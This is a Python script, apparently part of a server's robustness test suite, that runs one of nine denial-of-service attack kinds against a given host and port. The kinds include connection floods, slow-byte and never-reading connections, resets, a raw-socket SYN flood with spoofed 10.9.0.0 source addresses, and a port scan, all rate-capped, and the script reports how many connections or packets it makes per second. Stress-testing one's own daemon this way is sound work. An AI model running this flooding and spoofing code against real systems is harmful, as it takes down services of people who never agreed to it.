#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""What attackers do, one kind to a process: see attacks.py, which starts them.

    attackers.py KIND SOURCE HOST PORT SECONDS

It writes `ready' once the attack has come to its height, goes on until it is
ended by SIGTERM or the seconds are over, and then writes how many connections,
packets or pieces it has made in a second.  No kind goes faster than its rate.
"""

import contextlib
import errno
import itertools
import os
import random
import resource
import select
import signal
import socket
import struct
import sys
import time

# Connections of those that hold them, and more than the daemon may have.
CROWD = 1000
FLOOD = 2500

# In a second, at the most.
CONNECTIONS = 4000
PACKETS = 10_000
PIECES = 2000

# Bytes of a piece of random text.
PIECE = 1 << 16

# When nothing was taken for so long, in ms, the buffers are full.
FILLED = 200

# Seconds after which they are taken for full, for where some are refused.
FILLING = 10

# The receive buffer of those that never read.
WINDOW = 4096

# A byte on each slow connection comes as often, in seconds.
SLOWNESS = 0.1

# Spoofed packets claim to come from here.
SPOOFED = "10.9.0.0"

READY = "ready"


class End(Exception):
    """The attack is over."""


class Attack:
    def __init__(self, source, host, port, seconds):
        self.source, self.target = source, (host, port)
        self.deadline = time.monotonic() + seconds
        self.start, self.done = time.monotonic(), 0
        self.chance = random.Random(5220)
        self.clients = {}
        self.poll = select.poll()
        self.events = select.POLLIN | select.POLLOUT

    def ready(self):
        self.start, self.done = time.monotonic(), 0
        print(READY, flush=True)

    def pace(self, rate, n=1):
        """Counts n, and waits as long as that is more than the rate allows."""
        self.done += n
        now = time.monotonic()
        if now > self.deadline:
            raise End
        early = self.start + self.done / rate - now
        if early > 0.002:
            time.sleep(early)

    def socket(self):
        client = socket.socket()
        # The port is chosen when the address of the other side is known.
        client.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        client.bind((self.source, 0))
        return client

    def connect(self):
        """A connection, or None where there was none to be had."""
        client = self.socket()
        client.settimeout(1)
        try:
            client.connect(self.target)
        except OSError:
            client.close()
            return None
        return client

    def hold(self, receive_buffer=None):
        """Begins one that is kept."""
        client = self.socket()
        if receive_buffer:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF,
                              receive_buffer)
        client.setblocking(False)
        if client.connect_ex(self.target) not in (0, errno.EINPROGRESS):
            client.close()
            return
        self.clients[client.fileno()] = client
        self.poll.register(client, self.events)

    def drop(self, fd):
        self.poll.unregister(fd)
        self.clients.pop(fd).close()

    def crowd(self, n):
        """Holds n of them, and says so; the server may refuse some."""
        for _ in range(n):
            self.hold()
            self.pace(CONNECTIONS)
        self.ready()

    def each_event(self, timeout, receive_buffer=None):
        """The descriptors that are ready; those that broke are replaced."""
        for fd, events in self.poll.poll(timeout):
            if events & (select.POLLERR | select.POLLHUP):
                self.drop(fd)
                self.hold(receive_buffer)
                self.pace(CONNECTIONS)
            else:
                yield fd, events

    def flood(self):
        """opens more connections than there may be, and holds them"""
        self.events = select.POLLIN
        self.crowd(FLOOD)
        while True:
            for fd, _ in self.each_event(50):
                self.drop(fd)
                self.hold()
                self.pace(CONNECTIONS)
            self.pace(CONNECTIONS, 0)

    def close(self):
        """connects and closes at once"""
        self.ready()
        while True:
            if client := self.connect():
                client.close()
            self.pace(CONNECTIONS)

    def reset(self):
        """connects, sends a little and resets the connection"""
        self.ready()
        while True:
            if client := self.connect():
                with contextlib.suppress(OSError):
                    client.send(b"ping")
                    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                      struct.pack("ii", 1, 0))
                client.close()
            self.pace(CONNECTIONS)

    def slow(self):
        """sends a byte now and then on each of 1,000 connections"""
        self.crowd(CROWD)
        while True:
            began = time.monotonic()
            for client in list(self.clients.values()):
                try:
                    client.send(b"x")
                    client.recv(100)
                except BlockingIOError:
                    pass
                except OSError:
                    self.drop(client.fileno())
                    self.hold()
                self.pace(CROWD / SLOWNESS)
            time.sleep(max(0, began + SLOWNESS - time.monotonic()))

    def mute(self):
        """sends on 1,000 connections as much as is taken, and never reads"""
        for _ in range(CROWD):
            self.hold(WINDOW)
            self.pace(CONNECTIONS)
        # At its height nothing more is taken, unless some are always reset.
        most = time.monotonic() + FILLING
        while self.send_more(FILLED) and time.monotonic() < most:
            pass
        self.ready()
        while True:
            self.send_more(FILLED)
            self.pace(PIECES, 0)

    def send_more(self, patience):
        """Sends where something is taken; whether that was so in time."""
        sent = 0
        for fd, events in self.each_event(patience, WINDOW):
            self.poll.modify(fd, select.POLLOUT)
            if events & select.POLLOUT:
                with contextlib.suppress(OSError):
                    self.clients[fd].send(b"x" * PIECE)
                sent += 1
        self.pace(PIECES, sent)
        return sent > 0

    def random(self):
        """sends random bytes on 8 connections, and reads the answers"""
        self.crowd(8)
        text = self.chance.randbytes(PIECE)
        while True:
            for fd, events in self.each_event(50):
                client = self.clients[fd]
                with contextlib.suppress(OSError):
                    if events & select.POLLIN:
                        client.recv(4 * PIECE)
                    if events & select.POLLOUT:
                        client.send(text)
                        self.pace(PIECES)
            self.pace(PIECES, 0)

    def proxy(self):
        """sends what begins as a header of PROXY and goes on as garbage"""
        self.ready()
        starts = (b"PROXY TCP4 ", b"\r\n\r\n\0\r\nQUIT\n\x21\x11", b"")
        while True:
            if client := self.connect():
                with contextlib.suppress(OSError):
                    client.send(self.chance.choice(starts) +
                                self.chance.randbytes(300))
                client.close()
            self.pace(CONNECTIONS)

    def packets(self, source, port):
        """Sends a SYN from each source to each port, as two functions say."""
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                            socket.IPPROTO_RAW)
        self.ready()
        while True:
            raw.sendto(syn(source(), self.chance.randrange(1024, 65536),
                           socket.inet_aton(self.target[0]), port(),
                           self.chance.getrandbits(32)), self.target)
            self.pace(PACKETS)

    def half_open(self):
        """sends requests to connect in the name of 65,536 others"""
        base, = struct.unpack("!I", socket.inet_aton(SPOOFED))
        self.packets(lambda: struct.pack(
            "!I", base + self.chance.getrandbits(16)), lambda: self.target[1])

    def scan(self):
        """sends requests to connect to all ports in turn"""
        source = socket.inet_aton(self.source)
        ports = itertools.cycle(range(1, 65536))
        self.packets(lambda: source, lambda: next(ports))


KINDS = ("flood", "close", "reset", "slow", "mute", "half_open", "scan",
         "random", "proxy")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def syn(source, source_port, target, port, number):
    """A packet of IPv4 that asks for a connection; the kernel completes its
    outer header."""
    segment = struct.pack("!HHIIBBHHH", source_port, port, number, 0, 5 << 4, 2,
                          64240, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack(
        "!H", checksum(pseudo + segment)) + segment[18:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64,
                         6, 0, source, target)
    return header + segment


def end(signo, frame):
    raise End


def main():
    kind, source, host, port, seconds = sys.argv[1:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    signal.signal(signal.SIGTERM, end)
    attack = Attack(source, host, int(port), float(seconds))
    with contextlib.suppress(End):
        getattr(attack, kind)()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    spent = time.monotonic() - attack.start
    print(round(attack.done / max(spent, 0.001)), flush=True)
    # What it held is reset by its end.
    os._exit(0)


if __name__ == "__main__":
    main()
